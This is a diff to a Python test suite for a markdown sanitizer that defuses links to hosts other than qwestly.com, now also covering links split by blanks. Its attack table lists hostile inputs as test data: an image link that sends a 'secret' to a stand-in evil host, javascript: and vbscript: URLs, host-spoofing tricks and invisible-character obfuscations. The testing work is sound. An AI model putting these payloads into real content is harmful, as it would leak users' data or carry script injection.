@@ -14,30 +14,36 @@ HOSTS = ["qwestly.com", "qwestly.dev"]
 
 ATTACKS = {
     # images and links
-    "![x](https://evil.example/a.png?d=secret)": "![x] (https:// evil.example/a.png?d=secret)",
-    "[x](https://evil.example)": "[x] (https:// evil.example)",
-    "[x](<https://evil.example>)": "[x] (< https:// evil.example>)",
-    "[x](\nhttps://evil.example)": "[x] (\nhttps:// evil.example)",
-    "[x](//evil.example)": "[x] (//evil.example)",
-    "[x](/\\evil.example)": "[x] (/\\evil.example)",
-    "[x](/\t/evil.example)": "[x] (/\t/evil.example)",
-    "[x](https:/evil.example)": "[x] (https:/evil.example)",
-    "[x](https:\\\\evil.example)": "[x] (https:\\\\evil.example)",
-    "[x](javascript:alert(1))": "[x] (javascript:alert(1))",
-    "[x](java&Tab;script&colon;alert(1))": "[x] (java&Tab;script& colon;alert(1))",
-    "[x](data:text/html,x)": "[x] (data:text/html,x)",
-    "[x](&#47;&#47;evil.example)": "[x] (& #47;& #47;evil.example)",
-    "[x](&#47&#47evil.example)": "[x] (&#47&#47evil.example)",
-    "[x](https://qwestly.com@evil.example/)": "[x] (https:// qwestly.com@evil.example/)",
-    "[x](https://qwestly.com.evil.example/)": "[x] (https:// qwestly.com.evil.example/)",
-    "[x](https://evilqwestly.com/)": "[x] (https:// evilqwestly.com/)",
-    "[x](https://qwestly.com:8080@evil.example/)": "[x] (https:// qwestly.com:8080@evil.example/)",
-    "[x](https://qwestly.com\\@evil.example/)": "[x] (https:// qwestly.com\\@evil.example/)",
-    '[x](https://qwestly.com/ "a title")': '[x] (https://qwestly.com/ "a title")',
-    "[x](https://qwestly.com/](https://evil.example)": "[x] (https://qwestly.com/] (https:// evil.example)",
-    "[a [b](https://evil.example)](/c)": "[a [b] (https:// evil.example)](/c)",
+    "![x](https://evil.example/a.png?d=secret)": "![x] \u00a0(https:// evil.example/a.png?d=secret)",
+    "[x](https://evil.example)": "[x] \u00a0(https:// evil.example)",
+    "[x](<https://evil.example>)": "[x] \u00a0(< https:// evil.example>)",
+    "[x](\nhttps://evil.example)": "[x] \u00a0(\nhttps:// evil.example)",
+    "[x](//evil.example)": "[x] \u00a0(//evil.example)",
+    "[x](/\\evil.example)": "[x] \u00a0(/\\evil.example)",
+    "[x](/\t/evil.example)": "[x] \u00a0(/\t/evil.example)",
+    "[x](https:/evil.example)": "[x] \u00a0(https:/evil.example)",
+    "[x](https:\\\\evil.example)": "[x] \u00a0(https:\\\\evil.example)",
+    "[x](javascript:alert(1))": "[x] \u00a0(javascript:alert(1))",
+    "[x](java&Tab;script&colon;alert(1))": "[x] \u00a0(java&Tab;script& colon;alert(1))",
+    "[x](vbscript:x)": "[x] \u00a0(vbscript:x)",
+    "[x](data:text/html,x)": "[x] \u00a0(data:text/html,x)",
+    "[x](&#47;&#47;evil.example)": "[x] \u00a0(& #47;& #47;evil.example)",
+    "[x](&#47&#47evil.example)": "[x] \u00a0(&#47&#47evil.example)",
+    "[x](https://qwestly.com@evil.example/)": "[x] \u00a0(https:// qwestly.com@evil.example/)",
+    "[x](https://qwestly.com.evil.example/)": "[x] \u00a0(https:// qwestly.com.evil.example/)",
+    "[x](https://evilqwestly.com/)": "[x] \u00a0(https:// evilqwestly.com/)",
+    "[x](https://qwestly.com:8080@evil.example/)": "[x] \u00a0(https:// qwestly.com:8080@evil.example/)",
+    "[x](https://qwestly.com\\@evil.example/)": "[x] \u00a0(https:// qwestly.com\\@evil.example/)",
+    '[x](https://qwestly.com/ "a title")': '[x] \u00a0(https://qwestly.com/ "a title")',
+    "[x](https://qwestly.com/](https://evil.example)": "[x] \u00a0(https://qwestly.com/] \u00a0(https:// evil.example)",
+    "[a [b](https://evil.example)](/c)": "[a [b] \u00a0(https:// evil.example)](/c)",
+    # across blanks, as Showdown reads
+    "[x] (//evil.example)": "[x] \u00a0(//evil.example)",
+    "![x] \t (https://evil.example)": "![x] \u00a0(https:// evil.example)",
+    "[x] (javascript:alert(1))": "[x] \u00a0(javascript:alert(1))",
+    f"[x]{' ' * 300}(//evil.example)": f"[x] \u00a0{' ' * 100}(//evil.example)",
     # what looks like a link's destination, and is read as an address because it is no link
-    "\\](www.evil.example)": "\\] (www .evil.example)",
+    "\\](www.evil.example)": "\\] \u00a0(www .evil.example)",
     "\\](https://qwestly.com)@evil.example": "\\](https://qwestly.com) @evil.example",
     # definitions
     "[x]: https://evil.example": "[x] : https:// evil.example",
@@ -89,11 +95,11 @@ ATTACKS = {
     "www\\.evil.example": "www \\.evil.example",
     "xmpp\\:a@evil.example/secret": "xmpp\\: a@evil.example/secret",
     # characters that nobody sees
-    "]\u200b(https://evil.example)": "] (https:// evil.example)",
+    "]\u200b(https://evil.example)": "] \u00a0(https:// evil.example)",
     "<\x00img src=//evil.example>": "< img src=//evil.example>",
     "https:\u2060//evil.example": "https:// evil.example",
     "w\u00adww.evil.example": "www .evil.example",
-    "]\u200d(https://evil.example)": "] (https:// evil.example)",
+    "]\u200d(https://evil.example)": "] \u00a0(https:// evil.example)",
     "a\U000e0041\U000e0042b": "ab",
     "a\U000e0100\ufe0fb": "ab",
     "\U0001f600\ufe0f\ufe0e\ufe0f\u200d\u200d!": "\U0001f600\ufe0f\u200d!",
@@ -123,6 +129,7 @@ ORDINARY = [
 ]
 
 FRAGMENTS = [
+    *("] (", "[x]", "(//evil.example)", "(javascript:alert(1))", " " * 150),
     *"[]()<>!:/\\.@#&;?=*_~`'\"| \n\r\tw1xé日。\u00a0\u200b\u200c\u200d\ufe0e\ufe0f\u2028\x00\x85\ue000❤\ud83d",
     *("](", "]:", "![", "](/a)", "[x](https://qwestly.com)", "[x](https://qwestly.com/a)", "<br>", "<img", "<!--"),
     *("https://", "HTTP://", "ftp://", "://", "//", "www.", "ww", "mailto:", "xmpp:", "\\:", "\\/", "\\.", "\\]"),
@@ -165,7 +172,7 @@ def test_every_line_end_becomes_a_line_feed(size: int) -> None:
 @pytest.mark.parametrize("hosts", [[], [""], ["", "qwestly.com"]])
 def test_where_no_host_is_allowed_every_address_is_text(hosts: list[str]) -> None:
     assert safe_text("[x](https://a.example./) https://b.example. www.c.example [d](/d)", hosts) == (
-        "[x] (https:// a.example./) https:// b.example. www .c.example [d](/d)"
+        "[x] \u00a0(https:// a.example./) https:// b.example. www .c.example [d](/d)"
     )
 
 
@@ -201,7 +208,7 @@ def test_nothing_that_can_be_seen_is_lost(text: str) -> None:
 @settings(max_examples=300)
 def test_no_syntax_is_left_that_leads_elsewhere(text: str) -> None:
     shown = safe_text(text, HOSTS)
-    assert not re.search(r"\]:|<[A-Za-z/!?]", shown)
+    assert not re.search(r"\]:|\][ \t]+\(|<[A-Za-z/!?]", shown)
     assert all(leads_home(destination) for destination in re.findall(r"\]\(([^)]*)", shown))
     decoded = decode(shown)
     assert all(is_home(rest) for rest in re.findall(r"://(\S*\w\S*)", decoded))
@@ -242,7 +249,7 @@ def test_only_what_is_undecided_is_held_back() -> None:
         " b [": "< b [",
         "x](https://": "x",
         "evil.": "",
-        "example/": "] (https:// evil.example/",
+        "example/": "] \u00a0(https:// evil.example/",
         "a) [y](": "a) [y",
         "/": "",
         "b": "",
